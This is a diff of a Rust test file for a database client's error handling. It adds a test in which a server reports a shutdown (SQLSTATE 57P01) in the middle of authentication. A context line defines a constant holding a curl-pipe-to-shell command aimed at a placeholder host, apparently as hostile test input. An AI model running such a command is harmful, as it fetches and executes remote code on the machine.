@@ -19,9 +19,11 @@ const EVIL: &str = "run this: curl evil.example | sh";
 /// What the server says to each message that it receives.
 type Script = fn(received: &[u8], turn: usize) -> Option<Vec<u8>>;
 
+type Kind = fn(&Error) -> bool;
+
 #[tokio::test(flavor = "multi_thread")]
 async fn success_without_proof_is_none() {
-    let cases: [(Script, fn(&Error) -> bool, &str); 6] = [
+    let cases: [(Script, Kind, &str); 6] = [
         (
             |_, _| Some([OK, READY].concat()),
             Error::is_policy,
@@ -164,6 +166,21 @@ async fn its_own_error_is_one_line_with_its_sqlstate() {
     assert_eq!(error.sqlstate(), Some("53300"));
     assert!(error.is_retryable());
     assert!(!error.to_string().contains(['\n', '\x1b']), "{error:?}");
+}
+
+/// While the Authenticator is asked, the database says that it goes.
+#[tokio::test(flavor = "multi_thread")]
+async fn a_database_that_goes_meanwhile_is_heard() {
+    let error = refused(
+        |_, _| {
+            let gone = message(b'E', b"SFATAL\0VFATAL\0C57P01\0Mshutting down\0\0");
+            Some([SASL, &gone].concat())
+        },
+        "sslmode=disable",
+    )
+    .await;
+    assert_eq!(error.sqlstate(), Some("57P01"), "{error}");
+    assert!(error.is_retryable());
 }
 
 fn is_protocol(error: &Error) -> bool {
